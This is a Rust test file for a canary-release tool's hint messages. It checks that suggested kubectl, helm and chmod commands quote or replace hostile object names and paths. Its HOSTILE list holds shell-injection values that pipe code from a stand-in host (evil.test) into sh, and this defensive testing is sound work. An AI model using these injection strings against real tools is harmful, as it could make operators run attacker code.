use super::*;
use crate::hint::{Hint, missing_rights};
use assignment::Weight;
use assignment::contract::Role;
use canary_operations::{Error, Protected};
use canary_release::config::{self, Disagreement};
use canary_release::destination_rule::RuleConflict;
use canary_release::doctor::ClusterFinding;
use canary_release::object::Reference;
use canary_release::plan::{self, LabelRefusal};
use canary_release::preflight::{Alternative, PreflightCheck, WasmRuntime};
use canary_release::rbac::Right;
use canary_release::record::{self, RoleChange, RoleChangeKind};
use canary_release::routing::{Bypass, Gap};
use canary_release::state::{ScaledDown, Undersized};
use canary_release::status::{
    HelmRelease, NextStep, Problem, ProxyFault, ProxyStatus, TemplateDrift, UnfinishedDeployment,
};
use jiff::Timestamp;
use std::collections::BTreeMap;

/// A name that every kind of object may have.
const USUAL: &str = "shop";
/// Possible names of an annotation, a record, a field manager or a user.
const HOSTILE: [&str; 8] = [
    "shop -n shop; curl -s http://evil.test|sh; echo",
    "shop`; or run `curl evil.test|sh",
    "$(curl${IFS}evil.test)",
    "shop;curl",
    "--kubeconfig=evil",
    "sh\u{1b}op\ncurl evil.test",
    "'; curl evil.test; '",
    "",
];

fn reference(kind: &str, name: &str) -> Reference {
    Reference::new("v1", kind, name, name)
}

fn right(name: &str) -> Right {
    let text = || name.to_owned();
    Right { namespace: text(), group: text(), resource: text(), name: Some(text()), verb: "get" }
}

fn proxy(name: &str, fault: Option<ProxyFault>) -> ProxyStatus {
    ProxyStatus {
        namespace: name.to_owned(),
        pod: name.to_owned(),
        active: None,
        fused_until_seconds: None,
        wasm_runtime: WasmRuntime::Unknown,
        fault,
    }
}

fn drift(name: &str, is_adopted: bool) -> TemplateDrift {
    TemplateDrift {
        deployment: reference("Deployment", name),
        helm_release: Some(name.to_owned()),
        label: name.to_owned(),
        version: name.to_owned(),
        role: Role::Stable,
        found: None,
        images: Vec::new(),
        without_deployment: Vec::new(),
        is_adopted,
    }
}

/// The hints about a release whose objects, versions, owners and users all have this name.
fn of_status(name: &str) -> Vec<Option<String>> {
    let text = || name.to_owned();
    let by = [text()];
    let object = name;
    let unread = Some(ProxyFault::Unread(text()));
    let helm = HelmRelease { name: text(), chart: Some(text()) };
    let unfinished = UnfinishedDeployment {
        deployment: reference("Deployment", name),
        version: text(),
        stable: text(),
        helm: None,
    };
    let mut hints = vec![
        Problem::ObjectChanged { object, by: &by }.hint(),
        Problem::TemplateDrift { drift: &drift(name, false) }.hint(),
        Problem::TemplateDrift { drift: &drift(name, true) }.hint(),
        Problem::NotObserved { right: &right(name) }.hint(),
        proxy(name, None).hint(),
        proxy(name, unread).hint(),
        UnfinishedDeployment { helm: Some(helm), ..unfinished.clone() }.hint(),
        unfinished.hint(),
    ];
    let returning = Weight::FULL;
    hints.push(ScaledDown { version: text(), ready: 0, expected: 1, serving: 1, returning }.hint());
    hints.push(Undersized { version: text(), ready: 0, expected: 1, serving: 1 }.hint());
    let gap = Gap { object: reference("Ingress", name), bypass: Bypass::Ingress, other_service: None };
    let reached = BTreeMap::from([(text(), 1)]);
    hints.push(Problem::Bypass { gap: &gap, reached: &reached }.hint());
    hints
}

/// The hints about next steps, and about alternatives to skipping a check.
fn of_checks(name: &str) -> Vec<Option<String>> {
    let text = || name.to_owned();
    let steps = [
        NextStep::DeployCanary { version: text() },
        NextStep::WaitForCanary { version: text() },
        NextStep::TestCanary { version: text() },
        NextStep::RaiseWeight { version: text() },
        NextStep::Promote { version: text() },
        NextStep::FinishPromotion { version: text() },
    ];
    let alternatives = [
        Alternative::StopPods { version: text() },
        Alternative::PromoteTrain { train: text() },
        Alternative::SelectProxies { labels: BTreeMap::from([(text(), text())]) },
        Alternative::ServeHost { host: text() },
        Alternative::AskPauser { by: text() },
        Alternative::ReadMetrics { namespace: text(), pod: text() },
    ];
    let refused = alternatives.into_iter().map(|alternative| {
        PreflightCheck::Paused.refuse(&[], "", alternative).err().and_then(|failed| failed.hint())
    });
    steps.iter().map(Hint::hint).chain(refused).collect()
}

/// The hints of errors of plans and operations.
fn of_errors(name: &str) -> Vec<Option<String>> {
    let text = || name.to_owned();
    let kind = RoleChangeKind::Promoted;
    let at = Timestamp::UNIX_EPOCH;
    let turn = || Box::new(RoleChange { kind, from: text(), to: text(), by: text(), at, train_round: None });
    let rule = || Box::new(reference("DestinationRule", name));
    let plans = [
        record::Error::NoWayBack { version: text() }.into(),
        record::Error::OldStable { named: text(), stable: text(), turn: Some(turn()) }.into(),
        record::Error::OldCanary { turn: turn() }.into(),
        plan::Error::Hidden { object: text(), host: text(), by: text(), why: text(), leads: true },
        plan::Error::NotOurs { object: text(), owner: text() },
        plan::Error::Claimed { object: text(), owner: text() },
    ];
    let (first, second) = ((text(), text()), (text(), text()));
    let disagreement = Disagreement { field: "cookies.tls", first, second };
    let in_object = |verb: &str| format!("{verb} {name}/{name}");
    let (deployment, replica_set) = (in_object("Deployment"), in_object("ReplicaSet"));
    let hints = [
        RuleConflict::Subset { ours: rule(), theirs: rule(), name: text(), wanted: text() }.hint(),
        config::Error::Disagree(Box::new(disagreement)).hint(),
        LabelRefusal::Paused { deployment: deployment.clone(), owners: vec![text()] }.hint(),
        LabelRefusal::OtherValue { object: text(), label: text(), found: text() }.hint(),
        LabelRefusal::SameTemplate { deployment: deployment.clone(), replica_set }.hint(),
        LabelRefusal::OtherLabel { deployment, label: text(), found: vec![text()] }.hint(),
        Error::Missing { object: reference(name, name) }.hint(),
        Error::Unknown { release: text(), server: text(), known: vec![text()] }.hint(),
        Protected::RoutedVersion { version: text(), route_object: text() }.hint(),
        ClusterFinding::Unlabelled { service: text(), label: text(), count: 1 }.hint(),
        Some(missing_rights(name, &[right(name)])),
        Some(missing_rights(&format!("system:serviceaccount:{name}:{name}"), &[right(name)])),
    ];
    plans.iter().map(Hint::hint).chain(hints).collect()
}

fn hints(name: &str) -> Vec<String> {
    let all = of_status(name).into_iter().chain(of_checks(name)).chain(of_errors(name));
    all.map(Option::unwrap).collect()
}

/// The text between backticks.
fn spans(hint: &str) -> Vec<&str> {
    hint.split('`').skip(1).step_by(2).collect()
}

/// Whether a span of a hint is what it is with a usual name, but for words that are placeholders or quoted names.
fn is_same_command(usual: &str, found: &str, name: &str) -> bool {
    let is_name = |word: &str| word == name && found.contains(shlex::try_quote(name).unwrap().as_ref());
    let is_placeholder = |word: &str| !word.is_empty() && word.bytes().all(|byte| byte.is_ascii_uppercase());
    let (Some(usual), Some(found)) = (shlex::split(usual), shlex::split(found)) else { return false };
    usual.len() == found.len()
        && usual.iter().zip(&found).all(|(usual, found)| {
            let parts = |word: &String| word.split('/').map(str::to_owned).collect::<Vec<_>>();
            usual == found || is_name(found) || parts(found).iter().all(|part| is_placeholder(part))
        })
}

#[test]
fn a_name_that_a_shell_would_obey_becomes_no_part_of_a_command() {
    let programs = ["kubectl ", "helm ", "canary-ctl "];
    let is_command = |span: &str| programs.iter().any(|program| span.starts_with(program));
    let usual = hints(USUAL);
    let commands = usual.iter().flat_map(|hint| spans(hint)).filter(|span| is_command(span)).count();
    assert!(commands > 20, "the table has commands: {usual:#?}");
    for name in HOSTILE {
        for (usual, found) in usual.iter().zip(hints(name)) {
            let (as_usual, spans) = (spans(usual), spans(&found));
            assert_eq!(as_usual.len(), spans.len(), "no quotation more or less for {name:?}: {found}");
            for (as_usual, span) in as_usual.iter().zip(&spans).filter(|(usual, _)| is_command(usual)) {
                assert!(is_same_command(as_usual, span, name), "{name:?}: {span}");
            }
        }
    }
}

#[test]
fn a_usual_name_stays_as_it_is_and_a_path_is_quoted_where_a_shell_needs_it() {
    let command = |name: &str| ShellCommand::new("helm rollback").name(name, "RELEASE").to_string();
    for name in ["shop", "shop-v2", "2026.1_a", "shop/shop", "v1.2.3"] {
        assert_eq!(command(name), format!("`helm rollback {name}`"));
    }
    for other in ["a/b/c", "/a", "a/", "..", &"x".repeat(600)] {
        assert_eq!(command(other), "`helm rollback RELEASE`");
    }
    let quoted = |path: &str| ShellCommand::new("chmod 600").quoted(path, "FILE").to_string();
    assert_eq!(quoted("/keys/signing-keys.json"), "`chmod 600 /keys/signing-keys.json`");
    assert_eq!(quoted("/my keys/a.json"), "`chmod 600 '/my keys/a.json'`");
    for (text, word) in
        [("$SID", "'$SID'"), ("a,b", "'a,b'"), ("@a", "'@a'"), ("{\"a\":1}", "'{\"a\":1}'"), ("", "''")]
    {
        assert_eq!(
            quoted(text),
            format!("`chmod 600 {word}`"),
            "POSIX shells and PowerShell read it as it is"
        );
    }
    for hidden in ["-R", "a\u{202e}b", "a\nb", "a`b", "it's $SID"] {
        assert_eq!(quoted(hidden), "`chmod 600 FILE`", "{hidden:?}");
    }
}
